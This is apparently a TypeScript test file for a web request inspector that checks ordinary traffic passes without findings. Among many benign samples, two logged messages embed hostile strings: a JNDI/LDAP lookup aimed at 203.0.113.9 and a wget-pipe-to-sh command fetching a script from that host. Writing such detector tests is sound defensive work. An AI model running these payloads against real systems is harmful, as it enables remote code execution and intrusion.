// biome-ignore-all lint/suspicious/noTemplateCurlyInString: look-ups are spelt like that.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inspectRequest, type RequestFacts } from './inspect-request.ts';

const get = (uri: string, more: RequestFacts = {}): RequestFacts => ({ uri, ...more });
const post = (uri: string, body: string): RequestFacts => ({ uri, post_body: body });

/** What browsers, programs and people send all day. */
const ordinary: readonly RequestFacts[] = [
  get('/'),
  get('/index.html?a=1&b=2;c=3'),
  get('/search?q=union+select+tutorial'),
  get('/search?q=how%20to%20use%20UNION%20and%20SELECT%20in%20SQL'),
  get('/search?q=SELECT+*+FROM+users+WHERE+name+LIKE+%27a%25%27'),
  get("/search?q=rock+'n'+roll+and+blues"),
  get("/search?q=O'Brien+or+O'Neill"),
  get('/search?q=select%20a%20union%20job%20or%20not'),
  get('/search?q=sleep+better+(10)+tips'),
  get('/search?q=what+is+%2Fdev%2Ftcp+in+bash'),
  get('/search?q=nc+raleigh+weather+2024'),
  get('/search?q=cats+%7C+dogs'),
  get('/search?q=price+%3E+100+%26%26+price+%3C+200'),
  get('/search?q=curl+vs+wget%3B+which+one+is+better'),
  get('/search?q=python%3B+perl+or+ruby'),
  get('/search?q=id%3B+name%3B+echo+chamber'),
  get('/search?q=drop+table+for+sale;+oak'),
  get('/search?q=log4j+jndi+ldap+explained'),
  get('/search?q=etc+passwd+file+explained'),
  get('/search?q=1=1+or+2=2+truth+tables'),
  get('/search?q=%24100+-+%24200+(used)'),
  get('/search?q=C%2B%2B+template+%7B%7B+braces+%7D%7D'),
  get('/search?q=script+fonts+%3C+serif'),
  get('/maps/@59.9138,10.7387,12z/data=!3m1!4b1!4m5!3m4!1s0x46416e61f267f039:0x7e92605fd3231e9a'),
  get('/products;jsessionid=1A2B3C4D5E6F?page=2&sort=price,asc'),
  get("/api/items?filter=(name eq 'x') and (price gt 5)"),
  get('/odata/Products?$filter=Price%20gt%205%20and%20Name%20eq%20%27Milk%27&$select=Name,Price&$orderby=Name'),
  get('/api?fields=id,name,cmd&expand=owner($select=id)'),
  get('/graphql?query=%7B%20user(id%3A%201)%20%7B%20name%20%7D%20%7D'),
  get('/track?u=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1%26b%3D2&r=0.123'),
  get('/redirect?url=https://www.example.org/a/b/../c'),
  get('/proxy?target=http://203.0.113.9:8080/image.png'),
  get('/a/../b/index.css'),
  get('/assets/../../fonts/x.woff2'),
  get('/jquery.min.js?v=3.6.0'),
  get('/combo?a.js&b.js&c.css'),
  get('/image;width=100;height=200;type=cover'),
  get('/cgi-bin/search.cgi?find=red+shoes&type=all'),
  get('/elfinder/connector?cmd=ls&target=l1_Lw&reload=1'),
  get('/remote.cgi?cmd=play&id=12'),
  get('/monitor?command=status&host=web1'),
  get('/ping?host=web1.example.org'),
  get(
    '/token/eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
  ),
  get('/img?data=iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='),
  get('/pixel?cb=1700000000&e=%7B%22a%22%3A1%2C%22b%22%3A%22c%22%7D'),
  get('/wiki/Bash_(Unix_shell)'),
  get('/wiki/C%23'),
  get('/questions/12345/how-do-i-use-cat-etc-passwd-in-a-script'),
  get('/~user/notes.txt'),
  get('/git/project.git/info/refs?service=git-upload-pack'),
  get('/debian/pool/main/n/netcat-openbsd/netcat-openbsd_1.219-1_amd64.deb'),
  get('/simple/requests/'),
  get('/v2/library/bash/manifests/sha256:9f3d4d7b6a5d4c3b2a1908f7e6d5c4b3a29187f6e5d4c3b2a1908f7e6d5c4b3a'),
  get('/feed', { user_agent: 'Mozilla/5.0 (Linux; U; Android 4.4.2; id; SM-T230 Build/KOT49H) AppleWebKit/534.30' }),
  get('/', {
    user_agent: 'Mozilla/5.0 (X11; Linux x86_64; rv:45.0) Gecko/20100101 Firefox/45.0',
    referrer: "http://example.org/search?q=it's&x=1",
  }),
  get('/', { user_agent: 'curl/7.88.1' }),
  get('/', { user_agent: 'Wget/1.21; (linux-gnu)' }),
  get('/', { user_agent: 'MyApp/1.0 (id: 4; env: prod; os: linux)' }),
  get('/', { request_headers: ['Cookie: session=abc; id=4; theme=dark; cmd=1; env=prod'] }),
  get('/latest/meta-data/instance-id', { host: '169.254.169.254', user_agent: 'Cloud-Init/22.1' }),
  post('/login', 'user=alice&password=p%40ss%3Bw0rd%24%7C%26x'),
  post('/comment', "text=I'm+fine%3B+thanks+%26+bye+(really)&id=5"),
  post('/comment', 'text=First+ls%3B+then+cd.+It+works+%7C+sometimes'),
  post('/api', '{"query":"query { user(id: \\"1\\") { name, orders(first: 5) { id } } }","variables":{"a":"$b"}}'),
  post('/api', '{"message":"Run `npm install` and then `ls`; it is easy","tags":["bash","curl"]}'),
  post('/rpc', '<?xml version="1.0"?><!DOCTYPE note><methodCall><methodName>pingback.ping</methodName></methodCall>'),
  post(
    '/soap',
    '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><m:GetPrice xmlns:m="http://example.org/p"><m:Item>Apples</m:Item></m:GetPrice></s:Body></s:Envelope>',
  ),
  post('/ocsp', '0Q0O0M0K0I0\\x09\\x06\\x05+\\x0e\\x03\\x02\\x1a\\x05\\x00\\x04\\x14'),
  post('/index/_bulk', '{"index":{}} {"message":"GET /?x=${jndi:ldap://203.0.113.9:1389/a} 404"}'),
  post('/loki/api/v1/push', '{"streams":[{"values":[["1","sshd: ;wget http://203.0.113.9/x.sh|sh"]]}]}'),
  post(
    '/upload',
    '------WebKitFormBoundaryx Content-Disposition: form-data; name="file"; filename="cat.jpg" Content-Type: image/jpeg JFIF',
  ),
  post('/css', 'a{color:red;} b{width:calc(100% - 2px);} @media (max-width:100px){c{d:e}}'),
  post('/js', 'function f(a,b){return a&&b||c;}var x=`${a}-${b}`;if(x<5&&y>6){g(x|y);}'),
  post('/beacon', 'eyJjb250YWN0IjoiSFRUUCIsImhvc3QiOiIyNjUyZjg0OGUxYjgiLCJwbGF0Zm9ybSI6ImxpbnV4In0='),
  post('/count', 'v=1&tid=UA-1234-5&cid=555&t=event&ec=a%7Cb&ea=c%3Bd&el=%2Fhome%2Fx&ev=1'),
  post('/sql/console', 'note=please select the union members and order by name'),
];

describe('inspectRequest lets ordinary traffic pass', () => {
  it.each(ordinary.map((request) => [request.uri, request] as const))('%s', (_uri, request) => {
    expect(inspectRequest(request)).toEqual([]);
  });

  it('has many samples', () => {
    expect(ordinary.length).toBeGreaterThanOrEqual(60);
  });

  const letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.~';
  const safe = fc.string({ unit: fc.constantFrom(...letters), minLength: 1, maxLength: 60 }).filter((text) => !/\.\.|jndi/i.test(text));

  it('whatever unreserved characters (RFC 3986 §2.3) paths and parameters consist of', () => {
    fc.assert(
      fc.property(fc.array(safe, { maxLength: 6 }), fc.array(fc.tuple(safe, safe), { maxLength: 6 }), (segments, params) => {
        const query = params.map(([name, value]) => `${name}=${value}`).join('&');
        // A one-letter parameter may well be a command; that is a claim about names, not about characters.
        fc.pre(params.every(([name]) => name.length > 2));
        expect(inspectRequest({ uri: `/${segments.join('/')}?${query}` }).filter(({ strength }) => strength !== 'probe')).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it('whatever bytes a token in base64 holds', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 16, maxLength: 200 }), (bytes) => {
        expect(inspectRequest({ uri: `/?t=${encodeURIComponent(Buffer.from(bytes).toString('base64'))}` })).toEqual([]);
      }),
    );
  });
});
